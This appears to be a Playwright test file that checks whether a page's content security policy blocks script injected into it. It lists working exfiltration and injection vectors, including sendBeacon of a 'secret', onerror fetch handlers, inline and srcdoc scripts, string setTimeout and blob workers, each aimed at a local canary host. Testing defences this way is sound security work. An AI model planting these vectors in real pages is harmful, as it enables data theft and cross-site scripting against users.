import type { Page } from '@playwright/test';
import { expect, test } from './fixtures.ts';

/** What a script that got into the page might do. Each throws, or its request arrives, where no policy stands in the way. */
const attacks: Record<string, (canary: string) => unknown> = {
  fetch: (canary) => fetch(`${canary}/fetch`).then((response) => response.text()),
  beacon: (canary) => navigator.sendBeacon(`${canary}/beacon`, 'secret'),
  socket: (canary) => new WebSocket(`${canary.replace('http', 'ws')}/socket`),
  picture: (canary) => {
    new Image().src = `${canary}/picture.png`;
  },
  style: (canary) => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = `${canary}/style.css`;
    document.head.append(link);
  },
  'frame of another site': (canary) => {
    const frame = document.createElement('iframe');
    frame.src = `${canary}/frame.html`;
    document.body.append(frame);
  },
  'form sent to another site': (canary) => {
    const form = document.createElement('form');
    form.action = `${canary}/form`;
    form.target = 'elsewhere';
    const frame = document.createElement('iframe');
    frame.name = 'elsewhere';
    document.body.append(frame, form);
    form.submit();
  },
  'object of another site': (canary) => {
    const object = document.createElement('object');
    object.data = `${canary}/object.pdf`;
    document.body.append(object);
  },
  'module of another site': (canary) => {
    const url = `${canary}/module.js`;
    return import(url);
  },
  'script of another site': (canary) => {
    const script = document.createElement('script');
    script.src = `${canary}/script.js`;
    document.body.append(script);
  },
  'inline handler': (canary) => {
    document.body.insertAdjacentHTML('beforeend', `<img src="data:," onerror="fetch('${canary}/handler')">`);
  },
  'inline script': (canary) => {
    const script = document.createElement('script');
    script.textContent = `fetch('${canary}/inline')`;
    document.body.append(script);
  },
  'text as code': (canary) => {
    // oxlint-disable-next-line typescript/no-implied-eval -- the attack
    setTimeout(`fetch('${canary}/text')`, 0);
  },
  'frame that scripts': (canary) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<script>fetch('${canary}/srcdoc')</script>`;
    document.body.append(frame);
  },
  'worker from a blob': (canary) => new Worker(URL.createObjectURL(new Blob([`fetch('${canary}/blob-worker')`]))),
};

async function hits(
  page: Page,
  attack: (canary: string) => unknown,
  canary: { elsewhere: string; hits: string[] },
): Promise<string[]> {
  canary.hits.length = 0;
  await page.evaluate(attack, canary.elsewhere).catch(() => undefined);
  await page.waitForTimeout(400);
  return [...canary.hits];
}

for (const [name, attack] of Object.entries(attacks)) {
  test(`the page's policy stops: ${name}`, async ({ barePage, sealedPage, canary }) => {
    expect(await hits(barePage, attack, canary), 'the attack must work without the policy').not.toEqual([]);
    expect(await hits(sealedPage, attack, canary)).toEqual([]);
  });
}

test('a worker by its URL is refused: the policy would not cover it', async ({ barePage, sealedPage }) => {
  const start = (): Promise<string> =>
    new Promise((resolve) => {
      const worker = new Worker(new URL('../../plain-worker.js', location.href));
      worker.onmessage = () => resolve('started');
      worker.onerror = () => resolve('refused');
    });
  expect(await barePage.evaluate(start)).toBe('started');
  expect(await sealedPage.evaluate(start).catch(() => 'refused')).toBe('refused');
});

test('a worker by its URL is refused even to who makes a policy for it, once the page has closed that way', async ({
  sealedPage,
}) => {
  const start = (): Promise<string> =>
    new Promise((resolve) => {
      type Policy = { createScriptURL: (text: string) => string };
      const shared = window as unknown as {
        made?: Policy;
        trustedTypes: { createPolicy: (name: string, rules: Policy) => Policy };
      };
      shared.made ??= shared.trustedTypes.createPolicy('dompurify', { createScriptURL: (text) => text });
      const worker = new Worker(shared.made.createScriptURL('../../plain-worker.js'));
      worker.onmessage = () => resolve('started');
      worker.onerror = () => resolve('refused');
    });
  expect(await sealedPage.evaluate(start), 'the attack must work before').toBe('started');
  // As src/adapters/offline/register-worker.ts does.
  await sealedPage.evaluate(() => {
    const more = document.createElement('meta');
    more.httpEquiv = 'Content-Security-Policy';
    more.content = 'worker-src blob:';
    document.head.append(more);
  });
  expect(await sealedPage.evaluate(start).catch(() => 'refused')).toBe('refused');
});
